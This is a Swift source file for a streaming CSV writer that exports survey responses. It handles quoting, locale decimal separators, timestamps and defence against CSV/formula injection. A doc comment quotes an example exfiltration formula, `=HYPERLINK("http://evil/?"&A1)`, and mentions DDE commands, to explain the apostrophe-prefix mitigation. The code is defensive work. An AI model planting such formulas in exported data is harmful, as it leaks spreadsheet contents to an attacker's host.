import Foundation

/// Writes CSV records as UTF-8 bytes into a reusable buffer.
///
/// Append rows, then hand `takeBytes()` to the response body and keep going, so
/// an export of any size streams in chunks with bounded memory:
///
/// ```swift
/// var writer = CSVWriter(format: .excelBrazil)
/// writer.appendBOM()
/// writer.append(header: ["Respondente", "Resposta", "Valor"])
/// for row in rows {
///     writer.append(row: [.integer(row.id), .text(row.answer), .money(row.amount)])
///     if writer.byteCount > 64 * 1024 { try await send(writer.takeBytes()) }
/// }
/// try await send(writer.takeBytes())
/// ```
///
/// Quoting follows RFC 4180: a field is wrapped in double quotes when it contains
/// the separator, a double quote, CR or LF, and inner quotes are doubled.
///
/// Formula neutralising (OWASP "CSV Injection"): spreadsheet programs execute a
/// cell that starts with `=`, `+`, `-` or `@` as a formula (and some strip a
/// leading TAB or CR first), which lets a respondent plant e.g.
/// `=HYPERLINK("http://evil/?"&A1)` or a DDE command in the analyst's Excel.
/// OWASP's mitigation is to prefix such cells with a single quote, which makes
/// Excel and LibreOffice treat the cell as text. The cost is a visible `'` in
/// those few cells; numbers are typed cells and never get it, so `-5` stays a
/// number.
struct CSVWriter {
    /// The dialect being written.
    let format: CSVFormat

    /// Bytes written since the last `takeBytes()`.
    private(set) var buffer: [UInt8] = []

    /// Fields written in the current record, to know when a separator is due.
    private var fieldsInRecord = 0

    private static let quote = UInt8(ascii: "\"")
    private static let apostrophe = UInt8(ascii: "'")
    private static let carriageReturn: UInt8 = 0x0D
    private static let lineFeed: UInt8 = 0x0A
    private static let tab: UInt8 = 0x09

    /// A writer with an empty buffer of `initialCapacity` bytes.
    init(format: CSVFormat, initialCapacity: Int = 64 * 1024) {
        self.format = format
        buffer.reserveCapacity(initialCapacity)
    }

    /// Number of bytes waiting in the buffer.
    var byteCount: Int { buffer.count }

    /// The byte-order mark this format starts with (empty for `.analysis`), for
    /// callers that send the header chunk themselves.
    func bom() -> [UInt8] {
        format.byteOrderMark
    }

    /// Appends the byte-order mark, if the format has one. Call once, first.
    mutating func appendBOM() {
        buffer.append(contentsOf: format.byteOrderMark)
    }

    /// Returns the buffered bytes and empties the buffer, keeping its capacity
    /// for the next chunk.
    mutating func takeBytes() -> [UInt8] {
        let bytes = buffer
        buffer.removeAll(keepingCapacity: true)
        return bytes
    }

    /// Exchanges the writer's buffer with `other`: an encoder that keeps its output elsewhere
    /// between records swaps it in, appends a record, and swaps it back out.
    mutating func swapBuffer(with other: inout [UInt8]) {
        swap(&buffer, &other)
    }

    /// Appends whole records already encoded in this format (by another writer).
    mutating func append(encoded bytes: [UInt8]) {
        buffer.append(contentsOf: bytes)
    }

    /// Appends a text field from UTF-8 bytes, quoted and neutralised like `.text`.
    mutating func appendText(bytes: UnsafeBufferPointer<UInt8>) {
        beginField()
        appendTextBytes(bytes)
    }

    /// Appends a number written in plain decimal digits (`-1234.56`, as MariaDB prints a DECIMAL):
    /// only the point changes, to the format's decimal separator. Exact, and much cheaper than
    /// formatting a `Decimal` for a million rows.
    mutating func appendDecimalText(bytes: UnsafeBufferPointer<UInt8>) {
        beginField()
        let start = buffer.count
        buffer.append(contentsOf: bytes)
        if format.decimalSeparator != UInt8(ascii: ".") {
            buffer.withUnsafeMutableBufferPointer { out in
                for index in start..<out.count where out[index] == UInt8(ascii: ".") {
                    out[index] = format.decimalSeparator
                }
            }
        }
    }

    /// Appends a UTC timestamp given field by field, like `.timestamp`.
    mutating func appendTimestamp(_ time: UTCDateTime) {
        beginField()
        appendTimestampFields(time)
    }

    /// Appends a header record of column names (written as text cells, so
    /// user-defined question titles are neutralised too).
    mutating func append(header: [String]) {
        for name in header { appendText(name) }
        endRow()
    }

    /// Appends one complete record.
    mutating func append(row: [CSVCell]) {
        for cell in row { append(cell) }
        endRow()
    }

    /// Appends one field to the current record; finish the record with `endRow()`.
    mutating func append(_ cell: CSVCell) {
        switch cell {
        case .text(let string):
            appendText(string)
        case .integer(let value):
            beginField()
            appendInteger(value)
        case .decimal(let value, let fractionDigits):
            beginField()
            appendDecimal(value, fractionDigits: fractionDigits)
        case .timestamp(let date):
            beginField()
            appendTimestamp(date)
        case .boolean(let value):
            beginField()
            buffer.append(value ? UInt8(ascii: "1") : UInt8(ascii: "0"))
        case .empty:
            beginField()
        }
    }

    /// Ends the current record with the format's line ending.
    mutating func endRow() {
        buffer.append(contentsOf: format.lineEnding)
        fieldsInRecord = 0
    }

    /// Writes the separator before every field but the first of a record.
    private mutating func beginField() {
        if fieldsInRecord > 0 { buffer.append(format.separator) }
        fieldsInRecord += 1
    }

    /// Writes a text field, quoting and neutralising as needed, straight from
    /// the string's UTF-8 bytes (no intermediate String or array).
    private mutating func appendText(_ string: String) {
        beginField()
        var string = string
        string.withUTF8 { appendTextBytes($0) }
    }

    private mutating func appendTextBytes(_ bytes: UnsafeBufferPointer<UInt8>) {
        let separator = format.separator
        var needsQuotes = false
        for byte in bytes where byte == separator || byte == Self.quote || byte == Self.carriageReturn || byte == Self.lineFeed {
            needsQuotes = true
            break
        }
        let needsNeutralising = format.neutralizesFormulas && Self.startsFormula(bytes.first)

        if needsQuotes { buffer.append(Self.quote) }
        if needsNeutralising { buffer.append(Self.apostrophe) }
        if needsQuotes {
            for byte in bytes {
                if byte == Self.quote { buffer.append(Self.quote) }
                buffer.append(byte)
            }
            buffer.append(Self.quote)
        } else {
            buffer.append(contentsOf: bytes)
        }
    }

    /// Whether a text starting with this byte would be taken as a formula: the
    /// characters OWASP lists (`=`, `+`, `-`, `@`, TAB, CR).
    private static func startsFormula(_ first: UInt8?) -> Bool {
        switch first {
        case UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), tab, carriageReturn:
            return true
        default:
            return false
        }
    }

    /// Writes the decimal digits of an integer without creating a String.
    private mutating func appendInteger(_ value: Int) {
        if value < 0 { buffer.append(UInt8(ascii: "-")) }
        appendDigits(value.magnitude, minimumWidth: 1)
    }

    /// Writes `value` in base 10, left-padded with zeros to `minimumWidth` (at most 20).
    private mutating func appendDigits(_ value: UInt, minimumWidth: Int) {
        // Most values written (ids, answers, every field of a timestamp) have one to four
        // digits: written byte by byte, they cost no scratch buffer and no copy.
        if value < 10_000 && minimumWidth <= 4 {
            let width = max(minimumWidth, value < 10 ? 1 : value < 100 ? 2 : value < 1000 ? 3 : 4)
            if width >= 4 { buffer.append(Self.digit(value / 1000)) }
            if width >= 3 { buffer.append(Self.digit(value / 100 % 10)) }
            if width >= 2 { buffer.append(Self.digit(value / 10 % 10)) }
            buffer.append(Self.digit(value % 10))
            return
        }
        // Digits come out least significant first: fill a scratch buffer from its end.
        withUnsafeTemporaryAllocation(of: UInt8.self, capacity: 20) { scratch in
            var index = scratch.count
            var remaining = value
            repeat {
                index -= 1
                scratch[index] = UInt8(ascii: "0") + UInt8(remaining % 10)
                remaining /= 10
            } while remaining > 0
            while scratch.count - index < minimumWidth && index > 0 {
                index -= 1
                scratch[index] = UInt8(ascii: "0")
            }
            buffer.append(contentsOf: UnsafeBufferPointer(rebasing: scratch[index...]))
        }
    }

    /// The ASCII digit for 0...9.
    private static func digit(_ value: UInt) -> UInt8 { UInt8(ascii: "0") + UInt8(truncatingIfNeeded: value) }

    /// Writes an exact decimal with the format's decimal separator.
    ///
    /// `Decimal.description` gives the exact digits in plain notation with a `.`
    /// (it never uses exponents or locale settings), so we only swap the
    /// separator and pad the fraction. NaN is written as an empty field.
    private mutating func appendDecimal(_ value: Decimal, fractionDigits: Int?) {
        guard !value.isNaN else { return }
        var digits = value
        if let fractionDigits {
            precondition(fractionDigits >= 0, "fractionDigits cannot be negative")
            var unrounded = value
            NSDecimalRound(&digits, &unrounded, fractionDigits, .plain)
        }
        var writtenFractionDigits = 0
        var seenPoint = false
        for byte in digits.description.utf8 {
            if byte == UInt8(ascii: ".") {
                seenPoint = true
                // fractionDigits 0 means an integer: no separator at all.
                if fractionDigits != 0 { buffer.append(format.decimalSeparator) }
            } else {
                if seenPoint { writtenFractionDigits += 1 }
                buffer.append(byte)
            }
        }
        if let fractionDigits, fractionDigits > writtenFractionDigits {
            if !seenPoint { buffer.append(format.decimalSeparator) }
            for _ in writtenFractionDigits..<fractionDigits { buffer.append(UInt8(ascii: "0")) }
        }
    }

    /// Writes a UTC timestamp in the format's style; an out-of-range date is
    /// written as an empty field.
    private mutating func appendTimestamp(_ date: Date) {
        guard let time = UTCDateTime(date) else { return }
        appendTimestampFields(time)
    }

    private mutating func appendTimestampFields(_ time: UTCDateTime) {
        if time.year < 0 { buffer.append(UInt8(ascii: "-")) }
        appendDigits(UInt(time.year.magnitude), minimumWidth: 4)
        buffer.append(UInt8(ascii: "-"))
        appendDigits(UInt(time.month), minimumWidth: 2)
        buffer.append(UInt8(ascii: "-"))
        appendDigits(UInt(time.day), minimumWidth: 2)
        switch format.timestampStyle {
        case .iso8601UTC: buffer.append(UInt8(ascii: "T"))
        case .spaceSeparatedUTC: buffer.append(UInt8(ascii: " "))
        }
        appendDigits(UInt(time.hour), minimumWidth: 2)
        buffer.append(UInt8(ascii: ":"))
        appendDigits(UInt(time.minute), minimumWidth: 2)
        buffer.append(UInt8(ascii: ":"))
        appendDigits(UInt(time.second), minimumWidth: 2)
        if format.timestampStyle == .iso8601UTC { buffer.append(UInt8(ascii: "Z")) }
    }
}
